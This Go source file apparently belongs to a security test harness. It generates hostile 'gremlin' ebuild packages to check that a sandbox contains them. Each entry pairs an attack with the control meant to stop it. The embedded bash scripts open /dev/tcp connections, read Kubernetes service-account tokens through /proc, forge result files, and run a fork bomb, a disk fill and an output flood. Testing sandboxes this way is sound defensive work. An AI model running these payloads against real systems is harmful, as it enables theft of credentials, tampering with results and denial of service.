// Copyright 2026 The prcheck authors.
// SPDX-License-Identifier: Apache-2.0

package hostile

import (
	"fmt"
	"strings"

	"github.com/prcheck/prcheck/test/ebuildrepo"
)

// ebuildAttacks run while an ebuild is sourced. There is no PATH then, so they use what bash has built in, and a few
// programs by their full names.
func ebuildAttacks() []Attack {
	list := []struct {
		name, what, control string
		script              func(p Params) string
	}{
		{
			"network", "Connects to an address from global scope.",
			"No container that sources ebuilds may make a socket other than AF_UNIX (seccomp); NetworkPolicy.", network,
		},
		{
			"token", "Reads service account tokens and other secrets, also through /proc.",
			"Tokens are mounted only where they are needed; no shared process space.", token,
		},
		{
			"stages", "Reads the files of the other stages and writes into their folders.",
			"Volumes are mounted in one container for writing; Landlock limits what is written.", stages,
		},
		{
			"forkbomb", "Starts as many processes as it can.",
			"RLIMIT_NPROC, the pod's limit on processes; what is left is killed.", forkBomb,
		},
		{
			"disk", "Writes a file of 5 GB into every folder that lets it.",
			"RLIMIT_FSIZE; size limits of the volumes.", disk,
		},
	}
	out := make([]Attack, 0, len(list)+2)
	for _, l := range list {
		out = append(out, Attack{
			Name: l.name, What: l.what, Control: l.control, Package: "app-misc/gremlin-" + l.name,
			Evidence: Evidence{Marker: marker(l.name)},
			tree: func(a Attack, p Params) ebuildrepo.Tree {
				return carrier(a.Package, honest(a.Name, license(a.Name), l.script(p)))
			},
		})
	}
	return append(out, Attack{
		Name: "flood", What: "Writes 5 GB to the output of the program that sources it.",
		Control: "The runner reads output up to a limit and drops the rest.",
		Package: "app-misc/gremlin-flood", Evidence: Evidence{Output: true},
		tree: func(a Attack, p Params) ebuildrepo.Tree {
			return carrier(a.Package, honest(a.Name, license(a.Name), flood(p)))
		},
	}, Attack{
		Name: "forgery", What: "Leaves forged results wherever it may write.",
		Control: "Later stages take from a hostile stage's folder only what they expect, and validate it as data.",
		Package: "app-misc/gremlin-forgery", Evidence: Evidence{ForgedFile: forgedNames[0]},
		tree: func(a Attack, p Params) ebuildrepo.Tree {
			return carrier(a.Package, honest(a.Name, license(a.Name), forgery(p)))
		},
	})
}

func network(p Params) string {
	host, port, _ := strings.Cut(p.Address, ":")
	return fmt.Sprintf(`
if ( exec 3<>/dev/tcp/%[1]s/%[2]s && echo "gremlin was here" >&3 ) 2>/dev/null; then
	evidence="tcp to %[1]s:%[2]s"
elif ( echo "gremlin was here" >/dev/udp/%[1]s/%[2]s ) 2>/dev/null; then
	evidence="udp to %[1]s:%[2]s"
fi
`, host, port)
}

func token(p Params) string {
	var extra strings.Builder
	for _, s := range p.Secrets {
		fmt.Fprintf(&extra, "\t%s\n", s)
	}
	return fmt.Sprintf(`
shopt -u failglob
shopt -s nullglob
secrets=(
	{,/proc/[0-9]*/root}/{,var/}run/secrets/*/token
	{,/proc/[0-9]*/root}/{,var/}run/secrets/*/*/token
%s)
for secret in "${secrets[@]}"; do
	if read -r line 2>/dev/null <"${secret}"; then
		evidence="read ${secret}"
	fi
done 2>/dev/null
shopt -u nullglob
unset line secret secrets
`, extra.String())
}

// folders is a bash array of the folders that an attack visits: those that it was told of and, in a pod only, every mount
// point and the folders in it. On any other machine nothing is searched, so that nothing is left behind there.
func folders(p Params) string {
	return `shopt -u failglob
shopt -s nullglob
folders=( ` + strings.Join(p.Folders, " ") + ` )
if [[ $(</etc/hosts) == *Kubernetes-managed* ]]; then
	while read -r _ mount _; do
		case ${mount} in
			/|/proc*|/sys*|/dev|/dev/pts|/dev/mqueue|/etc*) continue ;;
		esac
		folders+=( "${mount}" "${mount}"/* )
	done </proc/self/mounts
	unset mount
fi
`
}

// resultNames are names under which stages keep what they found.
var resultNames = []string{"findings.jsonl", "findings.json", "results.jsonl", "results.json", "base.jsonl", "comparison.json"}

// stages looks for results, and for any file in the folders that it was told of. What another attack left does not count.
func stages(p Params) string {
	told := make([]string, len(p.Folders))
	for i, f := range p.Folders {
		told[i] = f + "/*"
	}
	return folders(p) + `files=( ` + strings.Join(told, " ") + ` )
for folder in "${folders[@]}"; do
	files+=( "${folder}"/{` + strings.Join(resultNames, ",") + `} )
done
for file in "${files[@]}"; do
	if [[ -f ${file} && -r ${file} ]] && read -r line 2>/dev/null <"${file}" && [[ ${line} != *gremlin* ]]; then
		evidence="read ${file}"
	fi
done
shopt -u nullglob
unset folders folder files file line
`
}

var forgedNames = []string{"findings.jsonl", "outcome.json", "results.json"}

func forgery(p Params) string {
	return folders(p) + `for folder in "${folders[@]}"; do
	if [[ -d ${folder} && -w ${folder} ]]; then
		for file in ` + strings.Join(forgedNames, " ") + `; do
			if [[ ! -e ${folder}/${file} ]]; then
				echo '` + Forged + `' 2>/dev/null >"${folder}/${file}"
			fi
		done
	fi
done 2>/dev/null
shopt -u nullglob
unset folders folder file
`
}

// forkBomb counts the processes that it can have at once. A subshell takes the blow when no more can be started, and
// what was started is ended before the ebuild goes on.
func forkBomb(p Params) string {
	return fmt.Sprintf(`
bomb() {
	local n
	for (( n = 1; n <= %[1]d; n++ )); do
		/bin/sleep 60 </dev/null >/dev/null 2>&1 &
		echo "$!"
	done
}
sleepers=( $( bomb 2>/dev/null ) )
if [[ ${#sleepers[@]} -eq %[1]d ]]; then
	evidence="started ${#sleepers[@]} processes"
fi
kill "${sleepers[@]}" 2>/dev/null
unset -f bomb
unset sleepers
`, p.Processes)
}

// flood writes to the output of the program that started the shell: the shell's own goes nowhere while it sources.
func flood(p Params) string {
	return fmt.Sprintf(`
for out in /proc/${PPID}/fd/2 /proc/${PPID}/fd/1; do
	if [[ ! ${out} -ef /dev/null ]] && /usr/bin/head -c %d /dev/zero >>"${out}"; then
		break
	fi
done 2>/dev/null
unset out
`, p.Output)
}

func disk(p Params) string {
	return fmt.Sprintf(`
for folder in "${T:-/nonexistent}" "${HOME}" "${TMPDIR:-/tmp}" /tmp /var/tmp %[2]s; do
	if /usr/bin/head -c %[1]d /dev/zero 2>/dev/null >"${folder}/gremlin.big"; then
		evidence="filled ${folder}"
	fi
	/bin/rm -f "${folder}/gremlin.big" 2>/dev/null
done 2>/dev/null
unset folder
`, p.File, strings.Join(p.Folders, " "))
}
